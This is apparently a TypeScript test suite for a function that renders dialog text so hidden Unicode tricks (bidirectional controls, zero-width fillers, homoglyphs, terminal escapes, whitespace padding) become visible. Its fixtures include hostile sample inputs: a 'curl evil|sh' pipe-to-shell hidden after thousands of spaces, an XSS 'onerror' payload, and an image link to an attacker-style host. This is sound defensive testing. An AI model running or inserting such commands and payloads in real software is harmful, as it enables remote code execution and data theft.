import assert from "node:assert/strict";
import fc from "fast-check";
import { visibleBlock, visibleLine } from "../../../src/core/visible.ts";
import { reveal } from "./reveal.ts";

const nasty = fc.constantFrom(
  ..."\u202e\u2066\u2069\u200e\u200f\u200b\u2060\ufeff\u00ad\u3164\uffa0\u115f\u1160\u00a0\u2028\u2029\u0085\u001b\u009b\b\r\0",
  ..."\\u{}␣↵ \n\tabсеοK",
  "\\u{202E}",
  " ".repeat(50),
  "\n".repeat(9),
  "\n×3\n",
  "\ud800",
  "\u{e0041}",
  "e\u0301\u0301\u0301\u0301\u0301\u0301",
  "1",
);
const anyText = fc
  .array(fc.oneof(nasty, fc.string({ unit: "binary" })), { maxLength: 12 })
  .map((parts) => parts.join(""));

const markup = [
  "[ok](command:workbench.action.quit)",
  "![x](https://evil.example/?q=1)",
  "<img src=x onerror=alert(1)>",
  "&amp; &lt;b&gt;",
  "$(zap) $(sync~spin)",
  "&Approve _Approve &&Approve",
  "**bold** `code` ~~gone~~ # head",
];

describe("visible text", () => {
  const cases: [name: string, text: string, line: string][] = [
    ["leaves plain text alone", "rm -rf ./out # ok", "rm -rf ./out # ok"],
    [
      "leaves honest words of other scripts alone",
      "Привет, 世界, Straße, naïve",
      "Привет, 世界, Straße, naïve",
    ],
    // Abuse case P12: a dialog draws no markup, so none needs to be touched.
    ...markup.map((text): [string, string, string] => [`leaves ${text} literal`, text, text]),
    ["spells bidirectional controls", "a\u202eb\u2066", "a\\u{202E}b\\u{2066}"],
    ["spells zero-width characters and fillers", "a\u200bb\u3164\u00ad", "a\\u{200B}b\\u{3164}\\u{AD}"],
    ["spells tag characters and variation selectors", "x\u{e0041}\ufe0f", "x\\u{E0041}\\u{FE0F}"],
    ["spells terminal controls", "\u001b[2J\u0007\b\r\u009b", "\\u{1B}[2J\\u{7}\\u{8}\\u{D}\\u{9B}"],
    [
      "spells blanks that are not spaces and odd line ends",
      "a\u00a0b\u2028\u0085",
      "a\\u{A0}b\\u{2028}\\u{85}",
    ],
    ["spells lone surrogates", "\ud800x", "\\u{D800}x"],
    ["spells a foreign letter in a Latin word", "g\u0456thub", "g\\u{456}thub"],
    [
      "spells a word made of imitations alone",
      "\u0441\u043e\u0440\u0443 x",
      "\\u{441}\\u{43E}\\u{440}\\u{443} x",
    ],
    ["spells full-width and Kelvin letters", "\uff45xec \u212a", "\\u{FF45}xec \\u{212A}"],
    [
      "counts long runs of blanks and shows what follows",
      `ls${" ".repeat(4000)}; curl evil|sh`,
      "ls␣×4000␣; curl evil|sh",
    ],
    ["shows line breaks in one line", "a\nb", "a↵b"],
    ["counts many line breaks", `a${"\n".repeat(500)}b`, "a↵×500↵b"],
    ["does not let a text pass for counted line breaks", "\n×3\n", "↵\\u{D7}3↵"],
    ["does not let text write our marks", "␣×9 ↵", "\\u{2423}×9 \\u{21B5}"],
    ["does not let text write our escapes", "\\u{202E}", "\\u{5C}u{202E}"],
  ];
  for (const [name, text, line] of cases) it(name, () => assert.equal(visibleLine(text), line));

  it("keeps the lines of a block and counts long gaps", () => {
    assert.equal(visibleBlock("a\n\tb\n\n\n\nc"), "a\n\tb↵×4↵\nc");
  });

  // Abuse case P10.
  it("shows four combining marks on a character and spells the other 9,996", () => {
    const mark = "\u0301";
    const shown = `a${mark.repeat(4)}${"\\u{301}".repeat(9_996)}`;
    assert.equal(visibleLine(`a${mark.repeat(10_000)}`), shown);
    assert.equal(visibleBlock(`a${mark.repeat(10_000)}\nb`), `${shown}\nb`);
  });

  it("shows different texts differently, in a line and in a block", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        assert.equal(reveal(visibleLine(text)), text);
        assert.equal(reveal(visibleBlock(text)), text);
      }),
      { numRuns: 2000 },
    );
  });

  it("leaves nothing invisible, reordering or line breaking in a line", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        assert.doesNotMatch(
          visibleLine(text),
          /[\p{Cf}\p{Cs}\u2028\u2029\n\r\u0085\u00a0\u001b\u3164\ufe0f]/u,
        );
      }),
    );
  });

  it("shows a megabyte of anything as it shows little of it", function () {
    this.timeout(60_000);
    const cases: [unit: string, shown: (times: number) => string][] = [
      ["a", (times) => "a".repeat(times)],
      [" ", (times) => `␣×${times}␣`],
      ["\n", (times) => `↵×${times}↵\n`],
      ["\u0441", (times) => "\\u{441}".repeat(times)],
      ["a\u0301", (times) => "a\u0301".repeat(times)],
      ["\\u{", (times) => "\\u{5C}u{".repeat(times)],
      ["\u202e", (times) => "\\u{202E}".repeat(times)],
    ];
    for (const [unit, shown] of cases) {
      const times = Math.floor(1_000_000 / Buffer.byteLength(unit));
      // Not `equal`, which would draw the difference of megabytes.
      assert.ok(
        visibleBlock(unit.repeat(times)) === shown(times),
        `${JSON.stringify(unit)} is shown otherwise`,
      );
    }
  });
});
